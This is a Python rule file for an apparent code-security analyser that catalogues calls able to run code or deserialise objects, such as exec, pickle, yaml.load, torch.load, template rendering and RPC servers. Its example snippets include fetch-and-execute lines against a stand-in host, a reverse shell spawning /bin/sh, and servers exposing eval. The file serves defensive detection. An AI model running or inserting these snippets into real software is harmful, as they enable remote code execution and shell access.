"""Calls that run Python source or rebuild objects that may run code.

Sources: Python library reference, "Built-in Functions", `pickle`, `marshal`, `shelve`, `runpy`,
`importlib`; the documentation of PyYAML 6 (`load`, loaders), PyTorch 2.6 (`torch.load`), NumPy 2
(`numpy.load`), pandas 2 (`read_pickle`), joblib 1.4 (`load`), jsonpickle 4 (`decode`), Keras 3
(`load_model`), MLflow 3 (`pyfunc.load_model`), `torch.hub`, transformers 4 and datasets 3
(`trust_remote_code`); Flask 3
(`render_template_string`), Jinja 3 (`Template`, `Environment.from_string`, "Sandbox"), Mako 1.3;
SymPy 1.13 (`sympify` "uses eval"); Genshi 0.7, Chameleon 4 and Bottle 0.13 (templates).
"""

from __future__ import annotations

from guardrail.knowledge.python.kinds import Gives, Kind, Makes
from guardrail.knowledge.python.rows import FIRST, NOWHERE, Argument, Row, RunsCode

TEMPLATE = "a template"
MESSAGE = "a serialised object from a message"
SHELL = "a shell for whoever is at the other end of a connection"
UNPICKLER = "unpickler"
BOUNDED = "sandboxed environment of templates"
_TEMPLATES = "environment of templates"
_OBJECT = "a serialised object"
_YAML = "a YAML document that may name any object"
_FUNCTION = "a function by its name"
_MODULES = r"~~^(?:os|subprocess|shutil|builtins|__builtins__|sys|importlib|pathlib|ctypes|signal)$"
"""What does most anything by one of its names."""
_GOT_FROM_MODULES = tuple(
    f"getattr({one},"
    for one in (
        *("os", "subprocess", "shutil", "builtins", "__builtins__", "sys", "importlib"),
        *("pathlib", "ctypes", "signal"),
    )
)
"""How it is written that a name of such a module is asked for."""
_UNSAFE = tuple(
    f"{package}{name}"
    for package in ("", "yaml.")
    for name in ("Loader", "CLoader", "UnsafeLoader", "CUnsafeLoader")
)

KINDS: tuple[Kind, ...] = (
    Makes(
        names=(
            "jinja2.Environment",
            "jinja2.environment.Environment",
            "jinja2.nativetypes.NativeEnvironment",
        ),
        kind=_TEMPLATES,
    ),
    Makes(
        names=(
            "jinja2.sandbox.SandboxedEnvironment",
            "jinja2.sandbox.ImmutableSandboxedEnvironment",
        ),
        kind=BOUNDED,
    ),
    Makes(names=("pickle.Unpickler", "dill.Unpickler"), kind=UNPICKLER),
    Makes(
        names=("fastapi.templating.Jinja2Templates", "starlette.templating.Jinja2Templates"),
        kind="pages",
    ),
    Gives(kind="pages", member="env", gives=_TEMPLATES),
)

ROWS: tuple[Row, ...] = (
    RunsCode(
        names=("builtins.exec", "builtins.eval"),
        code=Argument(0, "source"),
        what="Python source",
        example='exec(requests.get("https://acme.io/setup.py").text)',
    ),
    RunsCode(
        names=tuple(
            f"code.Interactive{kind}().{method}"
            for kind in ("Interpreter", "Console")
            for method in ("runsource", "push")
            if (kind, method) != ("Interpreter", "push")
        ),
        code=FIRST,
        what="Python source",
        beside=("InteractiveInterpreter", "InteractiveConsole"),
        unproved="what a class's own method makes isn't asked",
        example=(
            "import code\nfrom flask import request\n"
            "code.InteractiveInterpreter().runsource(request.json['code'])"
        ),
    ),
    RunsCode(
        names=("timeit.timeit", "timeit.repeat", "cProfile.run", "cProfile.runctx", "profile.run"),
        code=FIRST,
        what="Python source",
        beside=("timeit", "cProfile", "profile"),
        example="import timeit\nfrom flask import request\ntimeit.timeit(request.args['stmt'])",
    ),
    RunsCode(
        names=("sympy.sympify", "sympy.parse_expr", "sympy.parsing.sympy_parser.parse_expr"),
        code=FIRST,
        what="Python source",
        beside=("sympy",),
        example="import sympy\nfrom flask import request\nsympy.sympify(request.args['formula'])",
    ),
    RunsCode(
        names=("pickle.loads", "cPickle.loads", "dill.loads", "cloudpickle.loads", "marshal.loads"),
        code=Argument(0, "data"),
        what=_OBJECT,
        example='pickle.loads(requests.get("https://acme.io/model.pkl").content)',
    ),
    RunsCode(
        names=("jsonpickle.decode", "jsonpickle.loads"),
        code=Argument(0, "string"),
        what=_OBJECT,
        beside=("jsonpickle",),
        example='import jsonpickle\njsonpickle.decode(requests.get("https://acme.io/a.json").text)',
    ),
    RunsCode(
        names=(
            "pickle.load",
            "dill.load",
            "cloudpickle.load",
            "pickle.Unpickler",
            "joblib.load",
            "pandas.read_pickle",
            "shelve.open",
        ),
        code=FIRST,
        what=_OBJECT,
        by_file=True,
        beside=("pickle", "dill", "joblib", "pandas", "shelve"),
        example=(
            "import io, pickle, requests\n"
            'pickle.load(io.BytesIO(requests.get("https://acme.io/model.pkl").content))'
        ),
    ),
    RunsCode(
        names=(".load",),
        code=NOWHERE,
        what=_OBJECT,
        by_file=True,
        of=UNPICKLER,
        beside=("Unpickler",),
        unproved="a class of the program's own is what has it",
        example=(
            "import io, pickle, requests\nclass Own(pickle.Unpickler):\n    pass\n"
            'Own(io.BytesIO(requests.get("https://acme.io/model.pkl").content)).load()'
        ),
    ),
    RunsCode(
        names=("torch.load",),
        code=Argument(0, "f"),
        what=_OBJECT,
        by_file=True,
        when=(("weights_only", ("False",)),),
        beside=("torch",),
        unproved="PyTorch is too large to be installed for it",
        example=(
            "import io, requests, torch\n"
            'torch.load(io.BytesIO(requests.get("https://acme.io/m.pt").content), '
            "weights_only=False)"
        ),
    ),
    RunsCode(
        names=(
            "langchain_community.vectorstores.FAISS.load_local",
            "langchain_community.vectorstores.faiss.FAISS.load_local",
            "langchain.vectorstores.FAISS.load_local",
        ),
        code=Argument(0, "folder_path"),
        what=_OBJECT,
        by_file=True,
        when=(("allow_dangerous_deserialization", ("True",)),),
        beside=("FAISS",),
        unproved="the package is heavy, and isn't installed for tests",
        example=(
            "import urllib.request\n"
            "from langchain_community.vectorstores import FAISS\n"
            'path, _ = urllib.request.urlretrieve("https://acme.io/index.pkl")\n'
            "FAISS.load_local(path, embeddings, allow_dangerous_deserialization=True)"
        ),
    ),
    RunsCode(
        names=("numpy.load",),
        code=Argument(0, "file"),
        what=_OBJECT,
        by_file=True,
        when=(("allow_pickle", ("True",)),),
        beside=("numpy",),
        example=(
            "import io, numpy, requests\n"
            'numpy.load(io.BytesIO(requests.get("https://acme.io/a.npy").content), '
            "allow_pickle=True)"
        ),
    ),
    RunsCode(
        names=("yaml.load", "yaml.load_all"),
        code=Argument(0, "stream"),
        what=_YAML,
        always=True,
        when=((Argument(1, "Loader"), _UNSAFE),),
        beside=("yaml",),
        example="import yaml\nyaml.load(text, Loader=yaml.UnsafeLoader)",
    ),
    RunsCode(
        names=("yaml.unsafe_load", "yaml.unsafe_load_all"),
        code=Argument(0, "stream"),
        what=_YAML,
        always=True,
        beside=("yaml",),
        example="import yaml\nyaml.unsafe_load(text)",
    ),
    RunsCode(
        names=(
            "flask.render_template_string",
            "jinja2.Template",
            "mako.template.Template",
            "django.template.Template",
            "tornado.template.Template",
        ),
        code=Argument(0, "source"),
        what=TEMPLATE,
        unless="Sandboxed",
        beside=("flask", "jinja2", "mako", "django.template", "tornado.template"),
        example=(
            "from flask import render_template_string, request\n"
            "render_template_string(request.form['body'])"
        ),
    ),
    RunsCode(
        names=(
            *("genshi.template.MarkupTemplate", "genshi.template.NewTextTemplate"),
            *("genshi.template.TextTemplate", "bottle.SimpleTemplate"),
        ),
        code=Argument(0, "source"),
        what=TEMPLATE,
        beside=("genshi", "bottle"),
        unproved="their classes were read, the packages aren't among those that are asked",
        example="from bottle import SimpleTemplate, request\nSimpleTemplate(request.forms['body'])",
    ),
    RunsCode(
        names=("chameleon.PageTemplate", "chameleon.PageTextTemplate"),
        code=Argument(0, "body"),
        what=TEMPLATE,
        beside=("chameleon",),
        unproved="its classes were read, the package isn't among those that are asked",
        example=(
            "from chameleon import PageTemplate\nfrom flask import request\n"
            "PageTemplate(request.form['body'])"
        ),
    ),
    RunsCode(
        names=(".from_string",),
        code=Argument(0, "source"),
        what=TEMPLATE,
        unless="Sandboxed",
        beside=("jinja2", "fastapi", "starlette"),
        example=(
            "import jinja2\nfrom flask import request\n"
            "jinja2.Environment().from_string(request.form['body'])"
        ),
    ),
    RunsCode(
        names=("ctypes.CDLL", "ctypes.PyDLL", "ctypes.cdll.LoadLibrary"),
        code=Argument(0, "name"),
        what="a library of machine code",
        by_file=True,
        by_others=True,
        beside=("ctypes",),
        example=(
            "import ctypes, urllib.request\n"
            'path, _ = urllib.request.urlretrieve("https://acme.io/fast.so")\nctypes.CDLL(path)'
        ),
    ),
    RunsCode(
        # "Run-Time Loadable Extensions" of SQLite; apsw, aiosqlite and pysqlite3 call it so too.
        names=(".load_extension",),
        code=Argument(0, "name"),
        what="a library of machine code",
        by_file=True,
        by_others=True,
        beside=("sqlite3", "apsw", "aiosqlite"),
        example=(
            "import sqlite3, urllib.request\n"
            'path, _ = urllib.request.urlretrieve("https://acme.io/geo.so")\n'
            'sqlite3.connect("places.db").load_extension(path)'
        ),
    ),
    RunsCode(
        names=("importlib.util.spec_from_file_location",),
        code=Argument(1, "location"),
        what="a Python file",
        by_file=True,
        beside=("importlib",),
        example=(
            "import importlib.util, urllib.request\n"
            'path, _ = urllib.request.urlretrieve("https://acme.io/a.py")\n'
            'importlib.util.spec_from_file_location("a", path)'
        ),
    ),
    RunsCode(
        names=("multiprocessing.connection.Listener", "multiprocessing.managers.BaseManager"),
        code=NOWHERE,
        what=MESSAGE,
        always=True,
        when=((Argument(0, "address"), (r"~~^\(\s*[\"'](?:0\.0\.0\.0)?[\"']\s*,",)),),
        beside=("multiprocessing",),
        example=(
            "from multiprocessing.connection import Listener\n"
            'Listener(("0.0.0.0", 6000), authkey=b"shop")'
        ),
    ),
    RunsCode(
        names=("os.dup2",),
        code=Argument(0, "fd"),
        what=SHELL,
        always=True,
        when=((Argument(0, "fd"), (r"~~\b_?(?:s|sock|conn|client|peer)\w*\.fileno\(\)$",)),),
        beside=("pty", "/bin/sh", "/bin/bash", "cmd.exe"),
        example=(
            "import os, pty, socket\nsock = socket.create_connection((HOST, 4443))\n"
            'for one in (0, 1, 2):\n    os.dup2(sock.fileno(), one)\npty.spawn("/bin/sh")'
        ),
    ),
    RunsCode(
        names=(".query", ".eval"),
        code=Argument(0, "expr"),
        what="an expression of pandas, which reaches any object,",
        beside=("pandas",),
        example="import pandas\nframe.query(request.args['filter'], engine='python')",
    ),
    RunsCode(
        names=(".recv_pyobj",),
        code=NOWHERE,
        what=MESSAGE,
        always=True,
        beside=("zmq",),
        example="import zmq\nsocket = zmq.Context().socket(zmq.PULL)\njob = socket.recv_pyobj()",
    ),
    RunsCode(
        names=("runpy.run_path",),
        code=Argument(0, "path_name"),
        what="a Python file",
        by_file=True,
        beside=("runpy",),
        example=(
            "import runpy, urllib.request\n"
            'path, _ = urllib.request.urlretrieve("https://acme.io/setup.py")\nrunpy.run_path(path)'
        ),
    ),
    RunsCode(
        names=("importlib.import_module", "builtins.__import__"),
        code=Argument(0, "name"),
        what="a module by its name",
        beside=("import_module", "__import__"),
        example="import importlib\nimportlib.import_module(request.args['plugin'])",
    ),
    RunsCode(
        names=("builtins.getattr",),
        code=Argument(1, "name"),
        what=_FUNCTION,
        when=((Argument(0, "object"), (_MODULES,)),),
        by_others=True,
        beside=_GOT_FROM_MODULES,
        example="import os\nfrom flask import request\ngetattr(os, request.json['op'])()",
    ),
    RunsCode(
        names=("builtins.globals", "builtins.vars"),
        code=NOWHERE,
        what=_FUNCTION,
        indexed=True,
        by_others=True,
        beside=("request", "websocket", "receive", "payload", "body"),
        example="from flask import request\nglobals()[request.json['op']]()",
    ),
    RunsCode(
        names=("builtins.globals().get",),
        code=FIRST,
        what=_FUNCTION,
        by_others=True,
        beside=("globals",),
        unproved="it is a dictionary's method",
        example="from flask import request\nglobals().get(request.json['op'])()",
    ),
    RunsCode(
        names=(
            "runpy.run_module",
            "django.utils.module_loading.import_string",
            "werkzeug.utils.import_string",
            "pkgutil.resolve_name",
            "pydoc.locate",
        ),
        code=FIRST,
        what="a module by its name",
        beside=("runpy", "import_string", "resolve_name", "pydoc"),
        example="import runpy\nfrom flask import request\nrunpy.run_module(request.args['job'])",
    ),
    RunsCode(
        names=("logging.config.dictConfig", "logging.config.fileConfig"),
        code=FIRST,
        what="a configuration of logging, which may call anything,",
        beside=("logging.config",),
        example=(
            "import logging.config\nfrom flask import request\n"
            "logging.config.dictConfig(request.json)"
        ),
    ),
    RunsCode(
        names=("numexpr.evaluate",),
        code=Argument(0, "ex"),
        what="an expression of numexpr, which reaches any object,",
        beside=("numexpr",),
        example="import numexpr\nfrom flask import request\nnumexpr.evaluate(request.args['f'])",
    ),
    RunsCode(
        names=("lxml.etree.XSLT",),
        code=Argument(0, "xslt_input"),
        what="a stylesheet, which reads and writes files,",
        beside=("lxml",),
        example=(
            "from lxml import etree\nfrom flask import request\n"
            "etree.XSLT(etree.fromstring(request.data))"
        ),
    ),
    RunsCode(
        names=("xmlrpc.server.SimpleXMLRPCServer().register_function",),
        code=NOWHERE,
        what=SHELL,
        always=True,
        when=(
            (
                Argument(0, "function"),
                (
                    *("eval", "exec", "os.system", "os.popen", "subprocess.run", "subprocess.call"),
                    *("subprocess.check_output", "subprocess.getoutput", "subprocess.Popen"),
                ),
            ),
        ),
        beside=("xmlrpc",),
        example=(
            "from xmlrpc.server import SimpleXMLRPCServer\n"
            'SimpleXMLRPCServer(("", 8000)).register_function(eval, "eval")'
        ),
    ),
    RunsCode(
        names=("xmlrpc.server.SimpleXMLRPCServer().register_instance",),
        code=NOWHERE,
        what=SHELL,
        always=True,
        when=((Argument(1, "allow_dotted_names"), ("True",)),),
        beside=("xmlrpc",),
        example=(
            "from xmlrpc.server import SimpleXMLRPCServer\n"
            'SimpleXMLRPCServer(("", 8000)).register_instance(Shop(), allow_dotted_names=True)'
        ),
    ),
    RunsCode(
        names=tuple(
            f"rpyc.utils.server.{one}Server" for one in ("Threaded", "Forking", "ThreadPool")
        ),
        code=NOWHERE,
        what=SHELL,
        always=True,
        when=(
            (Argument(0, "service"), (r"~~(?:Slave|Classic)Service$",)),
            ("hostname", ("-", "0.0.0.0", "::", "None")),
        ),
        beside=("rpyc",),
        example=(
            "from rpyc import SlaveService\nfrom rpyc.utils.server import ThreadedServer\n"
            'ThreadedServer(SlaveService, hostname="0.0.0.0", port=18812).start()'
        ),
    ),
    RunsCode(
        names=(
            *("mlflow.pyfunc.load_model", "mlflow.sklearn.load_model", "mlflow.pytorch.load_model"),
            *("mlflow.langchain.load_model", "torch.hub.load"),
        ),
        code=FIRST,
        what=_OBJECT,
        by_others=True,
        beside=("mlflow", "torch"),
        unproved="the packages are heavy, and aren't installed for tests",
        example=(
            "import mlflow\nfrom flask import request\n"
            "mlflow.pyfunc.load_model(request.json['uri'])"
        ),
    ),
    RunsCode(
        names=(
            "keras.models.load_model",
            "keras.saving.load_model",
            "tensorflow.keras.models.load_model",
        ),
        code=Argument(0, "filepath"),
        what=_OBJECT,
        by_file=True,
        when=(("safe_mode", ("False",)),),
        beside=("keras",),
        unproved="the package is heavy, and isn't installed for tests",
        example=(
            "import urllib.request\nfrom keras.models import load_model\n"
            'path, _ = urllib.request.urlretrieve("https://acme.io/m.keras")\n'
            "load_model(path, safe_mode=False)"
        ),
    ),
)
